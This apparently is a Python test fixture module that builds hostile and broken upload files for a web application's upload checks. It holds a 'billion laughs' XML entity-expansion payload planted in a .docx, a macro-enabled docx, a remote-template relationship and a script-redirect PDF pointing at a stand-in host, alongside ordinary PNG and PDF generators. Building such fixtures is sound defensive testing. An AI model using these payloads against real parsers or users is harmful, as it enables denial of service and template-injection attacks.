"""Hostile and broken files, built from a real .docx, for the upload checks."""

import io
import struct
import zipfile
import zlib

from .docs import docx_bytes

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>")
REMOTE_TEMPLATE = (b'<Relationship Id="rIdX" TargetMode="External" Target="http://203.0.113.9/t.dotm" '
                   b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>')
HYPERLINK = (b'<Relationship Id="rIdH" TargetMode="External" Target="https://www.gov.cn/" '
             b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>')


def _rewrite(data: bytes, change) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info.filename)))
        extra = change("", b"")
        if extra:
            target.writestr(*extra)
    return out.getvalue()


def macro_docx() -> bytes:
    def change(name, body):
        if name == "[Content_Types].xml":
            return body.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
        return ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 vba") if name == "" else body
    return _rewrite(docx_bytes({"1 范围": ["x"]}), change)


def laughs_docx() -> bytes:
    def change(name, body):
        if name == "word/document.xml":
            return LAUGHS + body.split(b"?>", 1)[1].replace(b"<w:t>x</w:t>", b"<w:t>&lol9;</w:t>")
        return None if name == "" else body
    return _rewrite(docx_bytes({"1 范围": ["x"]}), change)


def remote_template_docx(relationship: bytes = REMOTE_TEMPLATE) -> bytes:
    def change(name, body):
        if name == "word/_rels/document.xml.rels":
            return body.replace(b"</Relationships>", relationship + b"</Relationships>")
        return None if name == "" else body
    return _rewrite(docx_bytes({"1 范围": ["x"]}), change)


def html_pdf() -> bytes:
    return b"%PDF-1.4\n<html><body><script>document.location='http://203.0.113.9/'</script></body></html>\n"


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bytes(width: int = 4, height: int = 4) -> bytes:
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(raw)) + _png_chunk(b"IEND", b""))


def pdf_bytes() -> bytes:
    from pypdf import PdfWriter

    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=595, height=842)
    writer.write(buffer)
    return buffer.getvalue()


def media_files(settings) -> list:
    """Every file under MEDIA_ROOT (each test has its own)."""
    from pathlib import Path

    return [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]
